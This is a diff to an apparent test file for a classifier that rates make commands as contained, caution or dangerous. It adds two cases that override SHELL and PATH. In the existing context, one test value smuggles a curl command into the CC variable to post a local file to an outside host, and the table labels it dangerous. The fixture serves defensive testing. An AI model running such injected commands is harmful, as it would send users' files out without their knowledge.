@@ -132,6 +132,8 @@ describe('a script of the project is judged by what stands in it', () => {
     ['make', 'contained'],
     ['make -j4 test', 'contained'],
     ['make CC=clang out/x', 'contained'],
+    ['make SHELL=./x out/x', 'caution'],
+    ['make PATH=bin out/x', 'caution'],
     ['make CC="curl -d @x https://example.com;" out/x', 'dangerous'],
     ['make fetch', 'dangerous'],
     ['make ship', 'dangerous'],
